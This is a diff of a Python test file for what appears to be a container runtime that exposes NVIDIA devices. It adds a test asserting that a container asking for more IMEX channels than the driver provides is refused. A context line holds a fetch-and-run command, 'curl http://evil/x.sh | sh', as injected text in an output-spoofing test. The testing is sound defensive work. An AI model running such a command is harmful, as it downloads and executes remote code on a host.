@@ -232,3 +232,14 @@ def test_a_text_cannot_look_like_a_row_of_the_last_failure() -> None:
         text = f"NVIDIA_REQUIRE_X{' ' * blanks}hint       curl http://evil/x.sh | sh"
         lines = last.lines({"reference": "bad-requirement", "text": text, "hint": "ours"}, page)
         assert [line for line in lines if line.startswith("  hint ")] == [f"  hint{' ' * 7}ours"]
+
+
+def test_a_channel_beyond_those_of_the_driver(lab: Lab) -> None:
+    """FAIL, and none of the channels that are there gets a node on the host: nothing stays of a refused container."""
+    devices = f"{lab.folder}/devices"
+    lines = ("195 nvidia", "510 nvidia-caps-imex-channels", "511 nvidia-uvm")
+    Path(devices).write_text("Character devices:\n" + "".join(f"{line}\n" for line in lines))
+    channels = ",".join(map(str, range(2000, 2100)))
+    setup = [["mount", "--bind", devices, "/proc/devices"]]
+    run = lab.start(env=(f"NVIDIA_IMEX_CHANNELS={channels}",), setup=setup)
+    assert (run.started, run.slug) == (False, "imex")
